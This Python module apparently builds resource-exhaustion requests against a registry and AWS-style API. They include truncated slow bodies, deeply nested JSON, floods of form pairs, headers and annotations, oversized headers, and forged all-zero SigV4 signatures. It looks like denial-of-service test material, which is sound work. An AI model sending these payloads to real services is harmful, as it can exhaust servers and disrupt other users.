"""The bytes of requests that cost a server much: all but the last byte of some, many names or lines in others."""

import http.client
import json
from urllib.parse import urlsplit

from botocore.auth import SigV4Auth
from botocore.awsrequest import AWSRequest
from registry import CONFIG_TYPE, MANIFEST_TYPE, Registry, descriptor
from signed import TARGET
from victims import BIG, MANIFEST_BYTES, POLICIES, upload_to_complete

KIB, MIB = 1 << 10, 1 << 20
FORM, JSON = "application/x-www-form-urlencoded", "application/x-amz-json-1.1"
NAMES = [f"{number:x}" for number in range(0x100, 0x100 + 3000)]


class Requests:
    def __init__(self, url, credentials):
        self.registry, self.host = Registry(url, credentials), urlsplit(url).netloc
        self.credentials = self.registry.ecr._request_signer._credentials
        self.somebody = {"Authorization": self.registry.basic}
        self.nobody = {"Authorization": "Bearer " + self.anonymous_token()}

    def anonymous_token(self):
        connection = http.client.HTTPConnection(self.host, timeout=30)
        connection.request("GET", "/v2/token?service=x&scope=x")
        return json.loads(connection.getresponse().read())["token"]

    def bytes(self, line, fields, body=b"", length=None):
        size = {"Content-Length": len(body) if length is None else length} if body or length else {}
        fields = {"Host": self.host, **fields, **size, "Connection": "close"}
        return f"{line} HTTP/1.1\r\n{''.join(f'{k}:{v}{chr(13)}{chr(10)}' for k, v in fields.items())}\r\n".encode() + body

    def signed(self, fields, body, service="ecr"):
        request = AWSRequest("POST", self.registry.url + "/", data=body, headers=fields)
        SigV4Auth(self.credentials, service, "us-east-1").add_auth(request)
        return {name: value for name, value in request.headers.items() if name != "Content-Length"}

    def unproven(self, fields, body, length, service="ecr"):
        """By one who knows the id of a key, not its secret. `length` is that of the whole body."""
        fields = self.signed(fields, b"", service)
        fields["Authorization"] = fields["Authorization"].partition("Signature=")[0] + "Signature=" + "0" * 64
        return self.bytes("POST /", fields, body, length)

    def call(self, operation, **members):
        body = json.dumps(members).encode()
        return self.bytes("POST /", self.signed({"Content-Type": JSON, "X-Amz-Target": TARGET + operation}, body), body)

    # --- not whole

    def form(self):
        return self.unproven({"Content-Type": FORM}, b"Action=ListUsers&" + b"a=b&" * (MIB // 4 - 8), MIB, "iam")

    def json(self, size, operation):
        fields = {"Content-Type": JSON, "X-Amz-Target": TARGET + operation}
        return self.unproven(fields, b'{"repositoryName":"' + b"A" * (size - 100), size)

    def manifest_begun(self):
        return self.bytes(f"PUT /v2/{BIG}/manifests/slow", self.somebody | {"Content-Type": MANIFEST_TYPE}, b"{", 100_000)

    # --- whole

    def tiny_members(self):
        """A manifest of as many members as a manifest may have, of names as long as fit then."""
        config = descriptor(CONFIG_TYPE, b"{}")
        notes = ",".join(f'"{number:018x}":""' for number in range(159_950))
        start = json.dumps({"schemaVersion": 2, "mediaType": MANIFEST_TYPE, "config": config, "layers": []})
        body = f'{start[:-1]},"annotations":{{{notes}}}}}'
        assert len(body) < MANIFEST_BYTES
        return self.bytes(f"PUT /v2/{BIG}/manifests/tiny", self.somebody | {"Content-Type": MANIFEST_TYPE}, body.encode())

    def nested(self):
        body = b'{"repositoryName":' + b"[" * (2 * MIB)
        return self.bytes("POST /", self.signed({"Content-Type": JSON, "X-Amz-Target": TARGET + "ListImages"}, body), body)

    def many_pairs(self):
        body = b"Action=ListUsers&Version=2010-05-08" + b"&a=" * 300_000
        return self.bytes("POST /", self.signed({"Content-Type": FORM}, body, "iam"), body)

    def images(self):
        return self.call("BatchGetImage", repositoryName=BIG, imageIds=[{"imageTag": "v1"}])

    def big_manifest(self):
        return self.bytes(f"GET /v2/{BIG}/manifests/v1", self.nobody | {"Accept": MANIFEST_TYPE})

    def credentials_repeated(self):
        fields = {"Content-Type": FORM, "Authorization": "AWS4-HMAC-SHA256 " + "Credential=" * 2800}
        return self.bytes("POST /", fields, b"Action=GetCallerIdentity&Version=2011-06-15")

    def names_signed(self):
        fields = self.signed({"Content-Type": JSON, "X-Amz-Target": TARGET + "ListImages"} | dict.fromkeys(NAMES, ""), b"{}")
        return self.bytes("POST /", fields, b"{}")

    def digests(self):
        return self.call("CompleteLayerUpload", **upload_to_complete(self.registry))

    def long_agent(self):
        return self.bytes(f"GET /v2/{POLICIES}/manifests/v1", self.nobody | {"User-Agent": "a" * 30_000})
